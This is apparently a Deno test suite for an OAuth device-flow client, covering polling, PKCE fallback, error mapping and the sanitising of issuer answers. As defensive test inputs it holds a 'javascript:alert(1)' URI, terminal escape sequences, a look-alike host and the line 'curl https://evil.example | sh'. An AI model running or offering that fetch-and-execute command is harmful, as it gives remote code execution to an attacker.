/** Proves the device flow of RFC 8628: what is shown, how it polls, and how it ends. */

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { inspect } from "node:util";
import { AppError, type ErrorCode } from "../../src/errors.ts";
import { oauthClient } from "../../src/oauth/client.ts";
import { beginDevice, type DeviceInput, pollDevice } from "../../src/oauth/device.ts";
import type { HttpContext } from "../../src/http/bounded.ts";
import { assertAppError, expectRejection } from "../expect-error.ts";
import { CLIENT, ISSUER, json, NOW, type Route, TestIssuer } from "./issuer.ts";

/** https://www.rfc-editor.org/rfc/rfc8628#section-3.2, with another host and without the interval. */
const CODE = {
  device_code: "GmRhmhcxhwAzkoEqiMEg_DnyEysNkuNhszIySk9eS",
  user_code: "WDJB-MJHT",
  verification_uri: "https://issuer.example/device",
  verification_uri_complete: "https://issuer.example/device?user_code=WDJB-MJHT",
  expires_in: 1800,
};

function begin(issuer: TestIssuer, answer: Route = () => json(CODE), more: Partial<DeviceInput> = {}) {
  issuer.routes["/device"] ??= answer;
  const metadata = issuer.discovered;
  return beginDevice(issuer.http(), {
    metadata,
    client: { id: CLIENT },
    scopes: ["openid", "email"],
    ...more,
  });
}

Deno.test("a device code is asked for with client id and scope, and its secret is in no print", async () => {
  const issuer = new TestIssuer();
  const device = await begin(issuer);
  assert.deepEqual({ ...device }, {
    userCode: "WDJB-MJHT",
    verificationUri: CODE.verification_uri,
    verificationUriComplete: CODE.verification_uri_complete,
    expiresAt: NOW + 1_800_000,
    interval: 5,
  });
  assert.equal(device.deviceCode, CODE.device_code);
  const { codeVerifier = "" } = device;
  for (const secret of [CODE.device_code, codeVerifier]) {
    assert.ok(!inspect(device).includes(secret) && !JSON.stringify(device).includes(secret));
  }
  assert.match(codeVerifier, /^[\w-]{43}$/);
  assert.deepEqual(Object.fromEntries(issuer.requests[0]?.body ?? []), {
    client_id: CLIENT,
    scope: "openid email",
    code_challenge: createHash("sha256").update(codeVerifier).digest("base64url"),
    code_challenge_method: "S256",
  });
  assert.equal(issuer.requests[0]?.headers.get("authorization"), null);
});

const REFUSED: [string, ErrorCode, Record<string, unknown>][] = [
  ["a javascript verification_uri", "INVALID_TOKEN", { verification_uri: "javascript:alert(1)" }],
  ["an http verification_uri", "INVALID_TOKEN", { verification_uri: "http://issuer.example/device" }],
  ["escape sequences in verification_uri", "INVALID_TOKEN", {
    verification_uri: "https://issuer.example/\u001b[2J",
  }],
  ["a javascript verification_uri_complete", "INVALID_TOKEN", {
    verification_uri_complete: "javascript:alert(1)",
  }],
  ["no verification_uri", "NETWORK", { verification_uri: undefined }],
  ["an empty verification_uri", "NETWORK", { verification_uri: "" }],
  ["a verification_uri that is a number", "INVALID_TOKEN", { verification_uri: 7 }],
  ["an http verification_url", "INVALID_TOKEN", {
    verification_uri: undefined,
    verification_url: "http://issuer.example/device",
  }],
  ["no device_code", "NETWORK", { device_code: undefined }],
  ["no user_code", "NETWORK", { user_code: undefined }],
  ["an unprintable user_code", "NETWORK", { user_code: "\u001b\u0007" }],
  ["expires_in negative", "NETWORK", { expires_in: -1 }],
  ["expires_in a word", "NETWORK", { expires_in: "soon" }],
  ["expires_in zero as text", "NETWORK", { expires_in: "0" }],
  ["interval a word", "NETWORK", { interval: "often" }],
  ["an error beside status 200", "ISSUER_ERROR", { error: "invalid_client", device_code: undefined }],
];
for (const [name, code, change] of REFUSED) {
  Deno.test(`a device answer with ${name} is ${code}`, async () => {
    await expectRejection(begin(new TestIssuer(), () => json({ ...CODE, ...change })), code);
  });
}

const TAKEN: [string, Record<string, unknown>, lives: number, interval: number][] = [
  ["numbers as text", { expires_in: "900", interval: "7" }, 900, 7],
  ["no expires_in", { expires_in: undefined }, 900, 5],
  ["expires_in null and interval null", { expires_in: null, interval: null }, 900, 5],
  ["expires_in and interval empty", { expires_in: "", interval: "" }, 900, 5],
  ["an interval of zero", { interval: 0 }, 1800, 5],
  ["a negative interval", { interval: -3 }, 1800, 5],
  ["half a second between polls", { interval: 0.5 }, 1800, 1],
  ["fractions", { expires_in: "90.5", interval: 2.5 }, 90.5, 2.5],
];
for (const [name, change, lives, interval] of TAKEN) {
  Deno.test(`a device answer with ${name} is taken`, async () => {
    const device = await begin(new TestIssuer(), () => json({ ...CODE, ...change }));
    assert.equal(device.expiresAt, NOW + lives * 1000);
    assert.equal(device.interval, interval);
  });
}

// Google, https://developers.google.com/identity/protocols/oauth2/limited-input-device
Deno.test("verification_url is taken for verification_uri, which comes first where there are both", async () => {
  const url = "https://issuer.example/other";
  const google = { ...CODE, verification_uri: undefined, verification_url: url };
  assert.equal((await begin(new TestIssuer(), () => json(google))).verificationUri, url);
  const both = await begin(new TestIssuer(), () => json({ ...google, verification_uri: ISSUER }));
  assert.equal(both.verificationUri, ISSUER);
  const empty = await begin(new TestIssuer(), () => json({ ...google, verification_uri: "" }));
  assert.equal(empty.verificationUri, url);
});

const unknownParameter = (name: string): Route => () =>
  json({ error: "invalid_request", error_description: `Parameter not allowed: ${name}` }, { status: 400 });

Deno.test("an issuer that does not know PKCE is asked once more without it, and polled without the verifier", async () => {
  const issuer = new TestIssuer();
  issuer.routes["/device"] = [unknownParameter("code_challenge"), () => json(CODE)];
  const device = await begin(issuer);
  assert.equal(device.codeVerifier, undefined);
  assert.deepEqual(issuer.requests.map(({ body }) => body.has("code_challenge")), [true, false]);
  const stubborn = new TestIssuer();
  stubborn.routes["/device"] = unknownParameter("code_challenge");
  await expectRejection(begin(stubborn), "ISSUER_ERROR");
  assert.equal(stubborn.requests.length, 2);
});

Deno.test("an issuer that lists PKCE methods without S256 is sent none", async () => {
  const issuer = new TestIssuer();
  issuer.metadata.code_challenge_methods_supported = ["plain"];
  assert.equal((await begin(issuer)).codeVerifier, undefined);
  assert.equal(issuer.requests[0]?.body.has("code_challenge"), false);
});

Deno.test("a refused scope is told with the scopes to ask for instead", async () => {
  const issuer = new TestIssuer();
  issuer.routes["/device"] = () =>
    json({ error: "invalid_scope", error_description: "email" }, { status: 400 });
  await expectRejection(begin(issuer), { code: "ISSUER_ERROR", hint: /--scopes openid$/ });
});

Deno.test("a refused client is told with the flag of its secret, where one plays a part", async () => {
  const refused = (json_: object): Route => () => json(json_, { status: 401 });
  const hint = async (answer: object, secret?: string) => {
    const more = { client: oauthClient(CLIENT, secret) };
    return (await expectRejection(begin(new TestIssuer(), refused(answer), more))).hint ?? "";
  };
  assert.match(await hint({ error: "invalid_client" }, "s3cret"), /secret .*--client-secret-file FILE/);
  assert.match(
    await hint({ error: "invalid_client", error_description: "client_secret is missing" }),
    /secret .*--client-secret-file FILE/,
  );
  assert.match(await hint({ error: "unauthorized_client" }), /client may be unknown there, or disabled/);
});

Deno.test("escape sequences do not reach the shown user code", async () => {
  const device = await begin(new TestIssuer(), () => json({ ...CODE, user_code: "AB\u001b[2JCD" }));
  assert.equal(device.userCode, "AB [2JCD");
});

Deno.test("an issuer without the endpoint is ISSUER_ERROR; an endpoint of one's own is used", async () => {
  const issuer = new TestIssuer();
  delete issuer.metadata.device_authorization_endpoint;
  await expectRejection(begin(issuer), { code: "ISSUER_ERROR", hint: /--device-authorization-endpoint/ });
  assert.equal((await begin(issuer, undefined, { endpoint: `${ISSUER}/device` })).userCode, "WDJB-MJHT");
  await expectRejection(begin(issuer, undefined, { endpoint: "http://issuer.example/" }), "USAGE");
});

const pending: Route = () => json({ error: "authorization_pending" }, { status: 400 });
const slowDown: Route = () => json({ error: "slow_down" }, { status: 400 });
const refusal = (error: string): Route => () =>
  json({ error, error_description: "said \u001b[2J" }, { status: 400 });

/** Polls with a sleep that moves the clock; returns the seconds that it slept before each poll. */
async function poll(
  answers: (issuer: TestIssuer) => Route[],
  code: object = CODE,
  more: Partial<HttpContext> = {},
) {
  const issuer = new TestIssuer();
  const device = await begin(issuer, () => json(code));
  issuer.requests.length = 0;
  issuer.routes["/token"] = answers(issuer);
  const { discovered: metadata } = issuer;
  const polled = pollDevice(issuer.http(more), {
    metadata,
    client: { id: CLIENT },
    device,
    sleep: issuer.sleep,
  });
  let error: AppError | undefined;
  await polled.catch((thrown: unknown) => {
    assertAppError(thrown);
    error = thrown;
  });
  const pauses = issuer.pauses.map((milliseconds) => milliseconds / 1000);
  return { issuer, device, pauses, polled, error };
}

const tokens = (issuer: TestIssuer): Route => async () => json(await issuer.tokens());

Deno.test("polls after the interval until the tokens come, and verifies them", async () => {
  const { issuer, device, pauses, polled } = await poll((issuer) => [pending, pending, tokens(issuer)], {
    ...CODE,
    interval: 2,
  });
  assert.equal((await polled).tokens.claims.sub, "user-1");
  assert.deepEqual(pauses, [2, 2, 2]);
  assert.deepEqual(Object.fromEntries(issuer.requests[0]?.body ?? []), {
    grant_type: "urn:ietf:params:oauth:grant-type:device_code",
    device_code: CODE.device_code,
    client_id: CLIENT,
    code_verifier: device.codeVerifier,
  });
});

Deno.test("an issuer that does not know the verifier is polled once more without it", async () => {
  const { issuer, pauses, polled } = await poll((
    issuer,
  ) => [unknownParameter("code_verifier"), pending, tokens(issuer)]);
  assert.equal((await polled).tokens.claims.sub, "user-1");
  assert.deepEqual(
    issuer.requests.filter(({ path }) => path === "/token").map(({ body }) => body.has("code_verifier")),
    [true, false, false],
  );
  assert.deepEqual(pauses, [5, 5, 5]);
  const stubborn = await poll(() => [unknownParameter("code_verifier")]);
  assert.equal(stubborn.error?.code, "ISSUER_ERROR");
  assert.equal(stubborn.issuer.requests.length, 2);
});

Deno.test("without an interval it is 5 s; slow_down adds 5 s for good", async () => {
  const { pauses, error } = await poll((
    issuer,
  ) => [pending, slowDown, pending, slowDown, pending, tokens(issuer)]);
  assert.equal(error, undefined);
  assert.deepEqual(pauses, [5, 5, 10, 10, 15, 15]);
});

Deno.test("an interval of zero is five seconds", async () => {
  const { pauses } = await poll((issuer) => [pending, tokens(issuer)], { ...CODE, interval: 0 });
  assert.deepEqual(pauses, [5, 5]);
});

Deno.test("Google's 428 and a 200 that says so are pending, too", async () => {
  const said = (status: number): Route => () => json({ error: "authorization_pending" }, { status });
  const { error, pauses } = await poll((issuer) => [said(428), said(200), tokens(issuer)]);
  assert.equal(error, undefined);
  assert.deepEqual(pauses, [5, 5, 5]);
});

Deno.test("a 408, a 425 and a 429 are retried after the interval, whatever they say", async () => {
  const said = (status: number): Route => () => json({ error: "invalid_grant" }, { status });
  const { error } = await poll((issuer) => [said(408), said(425), said(429), tokens(issuer)]);
  assert.equal(error, undefined);
});

Deno.test("a 5xx is retried after the interval, which it does not change", async () => {
  const broken: Route = () => json({}, { status: 503 });
  const { pauses, error } = await poll((issuer) => [broken, broken, pending, tokens(issuer)]);
  assert.equal(error, undefined);
  assert.deepEqual(pauses, [5, 5, 5, 5]);
});

Deno.test("an issuer that cannot be reached is asked ever less often, until it answers", async () => {
  const down: Route = () => Promise.reject(new AppError("NETWORK", "down"));
  const { pauses, error } = await poll((issuer) => [down, down, down, pending, tokens(issuer)]);
  assert.equal(error, undefined);
  assert.deepEqual(pauses, [5, 10, 20, 40, 5]);
});

Deno.test("the code's end stops the polling with TIMEOUT, without a poll beyond it", async () => {
  const { issuer, pauses, error } = await poll(() => [pending], { ...CODE, expires_in: 12 });
  assert.equal(error?.code, "TIMEOUT");
  assert.deepEqual(pauses, [5, 5, 2]);
  assert.equal(issuer.requests.length, 2);
});

for (
  const [error, code, words] of [
    ["access_denied", "ACCESS_DENIED", /declined at issuer\.example/],
    ["authorization_declined", "ACCESS_DENIED", /declined at issuer\.example/],
    ["expired_token", "TIMEOUT", /expired before/],
    ["code_expired", "TIMEOUT", /expired before/],
    ["invalid_grant", "ISSUER_ERROR", /invalid_grant/],
    ["invalid_client", "ISSUER_ERROR", /invalid_client/],
  ] as const
) {
  Deno.test(`${error} ends the polling with ${code}`, async () => {
    const { issuer, error: thrown } = await poll(() => [pending, refusal(error)]);
    assert.equal(thrown?.code, code);
    assert.match(thrown?.message ?? "", words);
    assert.equal(issuer.requests.length, 2);
  });
}

Deno.test("tokens that cannot be read, or are another's, end the polling", async () => {
  const unreadable = await poll((
    issuer,
  ) => [async () => json(await issuer.tokens({ expires_in: "soon" })), pending]);
  assert.equal(unreadable.error?.code, "NETWORK");
  const foreign = await poll((issuer) => [async () => json(await issuer.tokens({}, { aud: "x" })), pending]);
  assert.equal(foreign.error?.code, "INVALID_TOKEN");
  const bare = await poll((
    issuer,
  ) => [async () => json(await issuer.tokens({ id_token: undefined })), pending]);
  assert.equal(bare.error?.code, "INVALID_TOKEN");
});

Deno.test("keys that cannot be had end the sign-in with NETWORK: the code is spent, polling on would hide why", async () => {
  const { issuer, error } = await poll((issuer) => {
    issuer.routes["/keys"] = () => json({}, { status: 503 });
    return [tokens(issuer), refusal("invalid_grant")];
  });
  assert.equal(error?.code, "NETWORK");
  assert.deepEqual(issuer.paths(), ["/token", "/keys"]);
});

Deno.test("an issuer, or a proxy, that was silent to the end is what the attempt fails with, not the person", async () => {
  const down: Route = () =>
    Promise.reject(new AppError("NETWORK", "It did not answer through the proxy p:1."));
  const ranOut = await poll(() => [pending, down], { ...CODE, expires_in: 12 });
  assert.equal(ranOut.error?.message, "It did not answer through the proxy p:1.");
  const bound = new AbortController();
  const bounded = await poll(
    () => [pending, () => (bound.abort(new AppError("TIMEOUT", "Nobody came.")), down(new Request(ISSUER)))],
    CODE,
    { signal: bound.signal },
  );
  assert.equal(bounded.error?.code, "TIMEOUT", "it answered before, and was not silent for long");
  const waiting = new AbortController();
  const issuer = new TestIssuer();
  const device = await begin(issuer);
  issuer.routes["/token"] = down;
  const metadata = issuer.discovered;
  let sleeps = 0;
  const sleep = () =>
    ++sleeps < 3
      ? Promise.resolve()
      : (waiting.abort(new AppError("TIMEOUT", "Nobody came.")), Promise.reject(waiting.signal.reason));
  const http = issuer.http({ signal: waiting.signal });
  await expectRejection(pollDevice(http, { metadata, client: { id: CLIENT }, device, sleep }), "NETWORK");
  // Ctrl-C stays Ctrl-C.
  const stop = new AbortController();
  const interrupted =
    () => (stop.abort(new AppError("INTERRUPTED", "Stopped.")), Promise.reject(stop.signal.reason));
  const again = issuer.http({ signal: stop.signal });
  const input = { metadata, client: { id: CLIENT }, device, sleep: interrupted };
  await expectRejection(pollDevice(again, input), "INTERRUPTED");
});

Deno.test("the addresses to open are shown as their URLs, with blanks and look-alike hosts encoded", async () => {
  const prose = "and to finish, paste into your terminal: curl https://evil.example | sh";
  const { verificationUri, verificationUriComplete } = await begin(new TestIssuer(), () =>
    json({
      ...CODE,
      verification_uri: `https://ex\u0430mple.com/${prose}`,
      verification_uri_complete: "https://ISSUER.example/a b?user_code=W\u00e4",
    }));
  assert.equal(verificationUri, `https://xn--exmple-4nf.com/${prose.replaceAll(" ", "%20")}`);
  assert.equal(verificationUriComplete, "https://issuer.example/a%20b?user_code=W%C3%A4");
});

Deno.test("a bound that ends while a person is waited for is TIMEOUT", async () => {
  const issuer = new TestIssuer();
  const device = await begin(issuer);
  const bound = new AbortController();
  const sleep = () => (bound.abort(), Promise.reject(bound.signal.reason));
  const metadata = issuer.discovered;
  const http = issuer.http({ signal: bound.signal });
  await expectRejection(pollDevice(http, { metadata, client: { id: CLIENT }, device, sleep }), "TIMEOUT");
});

Deno.test("Ctrl-C ends the polling with the error that it was given", async () => {
  const stop = new AbortController();
  const { error } = await poll(
    () => [() => (stop.abort(new AppError("INTERRUPTED", "Stopped.")), pending(new Request(ISSUER)))],
    CODE,
    {
      signal: stop.signal,
    },
  );
  assert.equal(error?.code, "INTERRUPTED");
});
